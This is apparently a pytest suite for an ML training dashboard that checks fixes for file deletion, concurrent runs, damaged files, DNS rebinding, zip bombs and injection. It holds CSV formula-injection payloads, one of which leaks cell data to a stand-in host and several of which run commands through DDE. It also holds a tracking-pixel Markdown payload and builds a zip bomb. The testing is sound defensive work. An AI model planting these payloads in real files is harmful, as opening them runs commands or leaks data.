"""Reliability and security: no lost files, one trainer per run, no spreadsheet turned against its user."""

from __future__ import annotations

import csv
import json
import os
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from conftest import make_rows, write_csv

from engine.core.config import TrainConfig
from engine.core.csvsafe import needs_escape, neutralise, neutralise_table, restore, table_csv_bytes
from engine.core.errors import ConfigError
from engine.core.jobs import prepare_run
from engine.core.locks import RUN_LOCK, try_lock
from engine.core.predictions import read_predictions, write_test_predictions

ROOT = Path(__file__).resolve().parent.parent

# What attackers put in e-mails and labels (OWASP CSV injection), and harmless look-alikes.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''=twice",
]
HARMLESS = ["hello", "-3.5", "+1", "1e-3", "'just a quote", "", "a = b", "email@example.com"]


# --- 1. --out never deletes what TransferLab did not make ------------------------------------------------
def test_out_refuses_a_folder_holding_files_it_did_not_make(tmp_path):
    """The bug: --out into a folder with model/weights.txt and checkpoints/keep.txt deleted them."""
    out = tmp_path / "mine"
    (out / "model").mkdir(parents=True)
    (out / "model" / "weights.txt").write_text("precious")
    (out / "checkpoints").mkdir()
    (out / "checkpoints" / "keep.txt").write_text("keep")
    (out / "predictions.csv").write_text("mine")
    config = TrainConfig(data="data.csv", model="minilm", strategy="frozen")
    with pytest.raises(ConfigError, match="not empty .*never deletes or overwrites"):
        prepare_run(config, out)
    assert (out / "model" / "weights.txt").read_text() == "precious"
    assert (out / "checkpoints" / "keep.txt").read_text() == "keep"
    assert (out / "predictions.csv").read_text() == "mine" and not (out / "config.json").exists()

    (tmp_path / "a-file").write_text("x")
    with pytest.raises(ConfigError, match="is a file"):
        prepare_run(config, tmp_path / "a-file")
    empty = tmp_path / "empty"
    empty.mkdir()
    assert prepare_run(config, empty).config_path.exists()  # an empty folder is fine


def test_train_cli_refuses_a_non_empty_out_with_exit_code_2(tmp_path, capsys):
    from engine.train import main

    data = write_csv(tmp_path / "d.csv", make_rows(10))
    out = tmp_path / "out"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    assert main(["--data", str(data), "--model", "minilm", "--strategy", "frozen", "--out", str(out)]) == 2
    assert "notes.txt" in capsys.readouterr().err and (out / "notes.txt").read_text() == "mine"


# --- 4. one trainer per run ------------------------------------------------------------------------
def test_second_trainer_on_a_run_is_refused(tmp_path, workspace, capsys):
    """The bug: `engine.train --resume RUN` on a run the dashboard was training was accepted; two
    trainers wrote into one folder."""
    from engine.train import main

    data = write_csv(tmp_path / "d.csv", make_rows(10))
    run = prepare_run(TrainConfig(data=str(data), model="minilm", strategy="frozen"), tmp_path / "run")
    run.set_status("failed", "stopped")
    events_before = run.events()
    fd = try_lock(run.path / RUN_LOCK)  # what the dashboard's worker holds while it trains
    assert fd is not None
    try:
        assert main(["--resume", str(run.path)]) == 2
    finally:
        os.close(fd)
    assert "Another process" in capsys.readouterr().err
    assert run.status()["state"] == "failed" and run.events() == events_before


# --- 6. CSV formula injection ----------------------------------------------------------------------
@pytest.mark.parametrize("value", HOSTILE)
def test_cells_a_spreadsheet_would_run_are_quoted_and_restored_exactly(value):
    written = neutralise(value)
    assert written == "'" + value and restore(written) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_cells_are_written_as_they_are(value):
    assert not needs_escape(value) and neutralise(value) == value and restore(value) == value


def test_tables_quote_cells_and_column_names_but_not_numbers():
    table = pd.DataFrame({"text": HOSTILE[:2], "=evil": [0.25, -0.5]})
    safe = neutralise_table(table)
    assert list(safe.columns) == ["text", "'=evil"]
    assert safe.iloc[0, 0].startswith("'=") and safe.iloc[1, 0].startswith("'+")
    assert safe.iloc[1, 1] == -0.5
    rows = list(csv.reader(table_csv_bytes(table).decode().splitlines()))
    assert rows[0] == ["text", "'=evil"] and rows[1][0].startswith("'=HYPERLINK")
    raw = list(csv.reader(table_csv_bytes(table, raw=True).decode().splitlines()))
    assert raw[1][0].startswith("=HYPERLINK")


def test_predictions_csv_is_safe_to_open_and_reads_back_unchanged(tmp_path):
    """The bug: a spam e-mail holding =HYPERLINK(...) went raw into predictions.csv, and a label
    "+evil" into its label columns."""
    texts = [HOSTILE[0], "-3.5", HOSTILE[2]]
    path = tmp_path / "predictions.csv"
    write_test_predictions(
        path, {"text": texts}, [0, 1, 0], np.array([[0.9, 0.1], [0.2, 0.8], [0.4, 0.6]]), ["+evil", "@ham"]
    )
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and c != "-3.5")]
    table = read_predictions(path)
    assert table["text"].tolist() == texts
    assert table["true_label"].tolist() == ["+evil", "@ham", "+evil"]
    assert table["predicted_label"].tolist() == ["+evil", "@ham", "@ham"]


# --- 3. one damaged file never breaks a page ----------------------------------------------------------
def damaged_runs(root) -> dict[str, str]:
    """Runs whose files are cut short, not UTF-8, or of the wrong JSON type; returns name -> damaged file."""
    from engine.core.rundir import write_json_atomic

    cases = {
        "metrics-string": ("metrics.json", b'"oops"'),
        "config-bad-byte": ("config.json", b'{"model": "minilm\xff"}'),
        "status-list": ("status.json", b"[]"),
        "metrics-cut": ("metrics.json", b'{"accuracy": 0.9'),
        "status-wrong-types": ("status.json", b'{"state": 3, "created_at": "yesterday", "progress": 7}'),
    }
    for name, (file, content) in cases.items():
        folder = root / name
        folder.mkdir(parents=True)
        write_json_atomic(folder / "config.json", {"model": "minilm", "strategy": "frozen", "data": "x.csv"})
        write_json_atomic(folder / "status.json", {"state": "completed", "message": "", "created_at": 1.0})
        write_json_atomic(folder / "metrics.json", {"accuracy": 0.9, "macro_f1": "high"})
        (folder / file).write_bytes(content)
        (folder / "events.jsonl").write_bytes(
            b'{"type": "train", "step": 1, "loss": 0.5}\n[1, 2]\n\xff\xfe\n{"type": "train", "step": 2}\n'
            b'{"type": "eval", "step": "two"}\n{"cut": '
        )
    return {name: file for name, (file, _) in cases.items()}


def test_damaged_run_files_are_listed_as_damaged_and_never_raise(tmp_path):
    """The bug: a metrics.json holding "oops" or a config.json with an invalid byte raised from the
    sidebar on every page."""
    from engine.core.rundir import DAMAGED, RunDir, list_runs

    expected = damaged_runs(tmp_path)
    runs = {r["run"]: r for r in list_runs(tmp_path)}
    assert set(runs) == set(expected)
    for name, file in expected.items():
        if name == "status-wrong-types":  # valid JSON of the right shape, wrong values: shown, not damaged
            assert runs[name]["state"] == "unknown" and runs[name]["created_at"] is None
            continue
        assert runs[name]["state"] == DAMAGED and file in runs[name]["message"], runs[name]
    assert runs["metrics-string"]["accuracy"] is None and runs["config-bad-byte"]["macro_f1"] is None
    run = RunDir(tmp_path / "metrics-string")
    assert run.metrics() is None and run.events() == [{"type": "train", "step": 1, "loss": 0.5}]
    RunDir(tmp_path / "status-wrong-types").update_progress(step=1)  # a progress that was not a dict


def test_every_page_opens_with_damaged_runs_in_the_workspace(workspace):
    from streamlit.testing.v1 import AppTest

    from engine.core.workspace import runs_dir

    damaged_runs(runs_dir())
    for page in ("pages/data.py", "pages/train.py", "pages/results.py", "pages/try_it.py", "pages/runs.py"):
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
        at.switch_page(page).run()
        assert not at.exception, (page, [e.value for e in at.exception])
    shown = at.dataframe[0].value  # the Runs page's table
    assert (shown["state"] == "damaged").sum() == 4, shown


# --- 5. a full or read-only disk ---------------------------------------------------------------------
def test_a_dead_worker_on_a_full_disk_is_reported_without_writing(tmp_path, monkeypatch):
    """The bug: listing runs tried to write "failed" for a dead worker and raised OSError [Errno 28] on
    every page; the reason was never said."""
    import errno
    import shutil

    from engine.core import jobs
    from engine.core.rundir import RunDir

    run = prepare_run(TrainConfig(data="d.csv", model="minilm", strategy="frozen"), tmp_path / "run")
    from engine.core.rundir import write_json_atomic

    # a worker that is gone (no such process) while its status says running
    write_json_atomic(
        run.status_path, {"state": "running", "message": "Training", "pid": 999_999_999, "updated_at": 1.0}
    )

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(RunDir, "set_status", full)
    monkeypatch.setattr(shutil, "disk_usage", lambda path: shutil._ntuple_diskusage(10**9, 10**9 - 1000, 1000))
    status = jobs.refresh_status(run)
    assert status["state"] == "failed" and "only 1000 bytes free" in status["message"].replace(",", "")
    assert [r["state"] for r in jobs.runs_with_status(tmp_path)] == ["failed"]


def test_train_cli_says_a_read_only_workspace_plainly_with_exit_code_2(tmp_path, monkeypatch, capsys):
    """The bug: a read-only workspace gave a traceback and exit code 1."""
    import errno

    from engine.core.rundir import RunDir
    from engine.train import main

    def read_only(*args, **kwargs):
        raise OSError(errno.EROFS, "Read-only file system")

    monkeypatch.setattr(RunDir, "set_status", read_only)
    data = write_csv(tmp_path / "d.csv", make_rows(10))
    code = main(["--data", str(data), "--model", "minilm", "--strategy", "frozen", "--out", str(tmp_path / "run")])
    assert code == 2 and "the disk is read-only" in capsys.readouterr().err


# --- 8. a gate when the dashboard is shared ---------------------------------------------------------
@pytest.mark.parametrize(
    "address, shared", [("127.0.0.1", False), ("localhost", False), ("::1", False), ("0.0.0.0", True), (None, True)]
)
def test_the_dashboard_counts_as_shared_when_bound_beyond_localhost(address, shared):
    from ui.gate import is_shared

    assert is_shared(address) is shared


@pytest.mark.parametrize(
    "host, ok",
    [("127.0.0.1:8501", True), ("localhost:8501", True), ("[::1]:8501", True), ("LOCALHOST", True)]
    + [("evil.example:8501", False), ("evil.example", False), ("", False), ("team-box:8501", True)]
    + [("127.0.0.1.evil.example:8501", False), ("[::1].evil:80", False)],
)
def test_hosts_outside_the_allowlist_are_refused(host, ok):
    """The bug: a WebSocket with a foreign Host and Origin was accepted (DNS rebinding)."""
    from ui.gate import allowed_hosts, host_allowed

    assert host_allowed(host, allowed_hosts("0.0.0.0", extra="team-box")) is ok


def test_password_comparison():
    from ui.gate import password_matches

    assert password_matches("s3cret-é", "s3cret-é") and not password_matches("s3cret", "s3cret-é")


def test_shared_model_field_accepts_folders_only_under_the_roots(tmp_path, monkeypatch):
    """The bug: the model field told a missing folder from an existing one anywhere (a home's .ssh)."""
    from ui.gate import shared_model_problem

    roots = [tmp_path / "models"]
    (tmp_path / "models" / "mine").mkdir(parents=True)
    (tmp_path / "secret").mkdir()
    monkeypatch.chdir(tmp_path)
    assert shared_model_problem("minilm", roots) is None  # the catalog
    assert shared_model_problem("google/vit-base-patch16-224", roots) is None  # a Hugging Face id
    assert shared_model_problem(str(tmp_path / "models" / "mine"), roots) is None
    assert shared_model_problem("models/mine", roots) is None  # relative, under a root
    refused = [str(tmp_path / "secret"), str(tmp_path / "nothing-here"), "~/.ssh", "/etc", "../x", "secret"]
    problems = {shared_model_problem(name, roots) for name in refused}
    assert len(problems) == 1 and None not in problems  # the same words whether the folder exists or not
    assert "shared" in problems.pop()


def test_a_shared_dashboard_without_a_password_shows_only_how_to_set_one(workspace, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from ui import gate

    monkeypatch.setattr(gate, "server_address", lambda: "0.0.0.0")
    monkeypatch.delenv(gate.PASSWORD_ENV, raising=False)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    assert not at.exception and any("TRANSFERLAB_PASSWORD" in e.value for e in at.error)
    assert not at.file_uploader  # the Data page was not served

    monkeypatch.setenv(gate.PASSWORD_ENV, "correct horse")
    monkeypatch.setattr(gate, "WRONG_PASSWORD_DELAY_S", 0.0)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    at.text_input[0].input("wrong")
    at.button[0].click().run()
    assert any("Wrong password" in e.value for e in at.error) and not at.file_uploader
    at.text_input[0].input("correct horse")
    at.button[0].click().run()
    assert not at.exception and at.file_uploader  # the Data page


# --- 9. names and files that used to give a traceback -------------------------------------------------
def test_a_300_character_run_name_is_refused_plainly(tmp_path):
    """The bug: a 300-character run name raised OSError (file name too long)."""
    from engine.core import jobs

    config = TrainConfig(data="d.csv", model="minilm", strategy="frozen")
    with pytest.raises(ConfigError, match="at most 100 characters .*has 300"):
        jobs.start_run(config, folder="x" * 300, root=tmp_path)
    assert not list(tmp_path.iterdir())


def test_a_lora_adapter_saved_as_a_pickle_is_refused_plainly(tmp_path):
    """The bug: an adapter .bin gave a traceback (and a pickle can run code when loaded)."""
    from engine.core.errors import ModelNotAvailableError
    from engine.predict import Predictor

    model = tmp_path / "run" / "model"
    (model / "adapter").mkdir(parents=True)
    (model / "adapter" / "adapter_model.bin").write_bytes(b"\x80\x04not really a pickle")
    meta = {"format": "transferlab-text-classifier", "task": "text", "backbone_weights": "adapter"}
    meta |= {"base_model": "minilm", "label_names": ["a", "b"], "pooling": "mean"}
    (model / "transferlab.json").write_text(json.dumps(meta))
    (tmp_path / "run" / "config.json").write_text("{}")
    with pytest.raises(ModelNotAvailableError, match="adapter_model.bin instead of adapter_model.safetensors"):
        Predictor.from_run(tmp_path / "run")
    (model / "transferlab.json").write_text('{"format": ')
    with pytest.raises(ModelNotAvailableError, match="transferlab.json is damaged"):
        Predictor.from_run(tmp_path / "run")


# --- 9. housekeeping -----------------------------------------------------------------------------------
def test_a_zip_bomb_is_refused_before_anything_is_unpacked(tmp_path, workspace):
    """The bug: a 1 MB ZIP could write 1.1 GB into the image cache."""
    import zipfile

    from engine.core.errors import DataError
    from engine.core.workspace import cache_dir
    from engine.data.images import load_image_dataset

    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("cats/big.png", b"\0" * (60 * 1024**2))
        zf.writestr("dogs/big.png", b"\0" * (60 * 1024**2))
    assert bomb.stat().st_size < 1024**2
    with pytest.raises(DataError, match="ZIP bomb"):
        load_image_dataset(bomb)
    assert not [p for p in cache_dir("images").iterdir()]


def test_caches_keep_to_their_cap_removing_the_least_recently_used(workspace, monkeypatch):
    import numpy as np

    from engine.core import housekeeping
    from engine.core.workspace import cache_dir
    from engine.training.features import cached_array

    monkeypatch.setenv(housekeeping.LIMIT_ENV, "0.07")  # 71.7 KB: four entries of 16.1 KB fit, five do not
    for i in range(4):  # 16 KB each
        cached_array(f"k{i}", lambda: np.zeros(4096, dtype=np.float32))
        os.utime(cache_dir("features") / f"k{i}.npy", (1000 + i, 1000 + i))
    cached_array("k0", lambda: pytest.fail("k0 should still be cached"))  # a hit makes k0 the most recent
    cached_array("k4", lambda: np.zeros(4096, dtype=np.float32))
    left = sorted(p.stem for p in cache_dir("features").glob("*.npy"))
    assert left == ["k0", "k2", "k3", "k4"], left  # k1 was the least recently used


def test_clean_up_lists_what_each_part_takes_and_removes_only_what_is_chosen(workspace):
    from engine.core import housekeeping
    from engine.core.rundir import write_json_atomic
    from engine.core.workspace import cache_dir, runs_dir, uploads_dir

    stopped = runs_dir() / "stopped"
    (stopped / "checkpoints" / "checkpoint-8").mkdir(parents=True)
    (stopped / "checkpoints" / "checkpoint-8" / "optimizer.pt").write_bytes(b"x" * 5000)
    write_json_atomic(stopped / "config.json", {"data": str(uploads_dir() / "used.csv")})
    write_json_atomic(stopped / "status.json", {"state": "failed"})
    (uploads_dir() / "used.csv").write_text("text,label\n")
    (uploads_dir() / "old.csv").write_text("x" * 3000)
    (cache_dir("features") / "f.npy").write_bytes(b"y" * 2000)
    parts = {p.key: p for p in housekeeping.usage()}
    assert (parts["checkpoints"].bytes, parts["uploads"].bytes, parts["caches"].bytes) == (5000, 3000, 2000)
    assert housekeeping.clean({"uploads", "caches"}) == 5000
    assert (uploads_dir() / "used.csv").exists() and not (uploads_dir() / "old.csv").exists()
    assert (stopped / "checkpoints").exists()  # not chosen
    assert housekeeping.clean({"checkpoints"}) == 5000 and not (stopped / "checkpoints").exists()


def test_clean_up_keeps_the_uploads_that_runs_and_adaptations_read(workspace):
    """Uploads live in a folder per file (``uploads/<hash>/<name>``): one a run or an adaptation reads is
    in use, whatever its folder is called."""
    from engine.core import housekeeping
    from engine.core.rundir import write_json_atomic
    from engine.core.workspace import adaptations_dir, runs_dir
    from engine.data.uploads import save_upload

    for_run = save_upload(b"text,label\nhello,a\n", "labeled.csv")
    for_adaptation = save_upload(b"one\ntwo\n", "notes.txt")
    unused = save_upload(b"x" * 3000, "old.csv")
    write_json_atomic(runs_dir() / "r1" / "config.json", {"data": str(for_run)})
    write_json_atomic(adaptations_dir() / "a1" / "config.json", {"kind": "adapt", "data": str(for_adaptation)})
    assert {p.key: p.items for p in housekeeping.usage()}["uploads"] == 1
    housekeeping.clean({"uploads"})
    assert for_run.is_file() and for_adaptation.is_file() and not unused.exists()


def test_a_login_can_be_required_behind_a_reverse_proxy(monkeypatch):
    from ui import gate

    assert not gate.needs_login("127.0.0.1")
    monkeypatch.setenv(gate.REQUIRE_ENV, "1")
    assert gate.needs_login("127.0.0.1")


def test_dashboard_caches_are_bounded_in_bytes_and_hand_out_copies():
    """The bug: dashboard caches were capped by count (eight 200 MB tables could be held at once)."""
    from ui.memo import ByteLRU

    store = ByteLRU(max_bytes=40_000)
    for i in range(5):
        store.put(i, pd.DataFrame({"x": np.arange(1000)}))  # about 8 KB each pickled
    assert store.bytes <= 40_000 and store.get(4)[0]
    store.get(1)  # used: kept over older ones
    store.put("big", np.zeros(20_000))  # 160 KB: more than a quarter of the budget, not kept
    assert not store.get("big")[0]
    for i in range(5, 7):  # four entries fit: these two push out the least recently used, 2 and 3
        store.put(i, pd.DataFrame({"x": np.arange(1000)}))
    assert store.bytes <= 40_000 and store.get(1)[0] and not store.get(2)[0] and not store.get(0)[0]
    found, frame = store.get(1)
    frame.loc[0, "x"] = -1
    assert store.get(1)[1].loc[0, "x"] == 0  # each caller gets its own copy


# --- 7. user strings shown as Markdown --------------------------------------------------------------
@pytest.mark.parametrize(
    "text", ["![x](http://evil.example/p.png)", "<a href='x'>y</a>", "www.evil.example", "me@evil.example", ":red[x]"]
)
def test_user_strings_shown_as_markdown_are_inert(text):
    """The bug: a label like ![x](http://host/pixel.png) made pages fetch it; bare addresses became links."""
    from engine.core.words import markdown_text

    shown = markdown_text(text)
    assert "](" not in shown and "://" not in shown and ":red[" not in shown
    assert not re.search(r"(?<!\\)[<>\[\]()!:]", shown)  # every sign that could start markup is escaped
    assert "www." not in shown and "@e" not in shown  # autolinks broken by an invisible word joiner
    assert shown.replace("\\", "").replace("\u2060", "") == text  # shown as typed
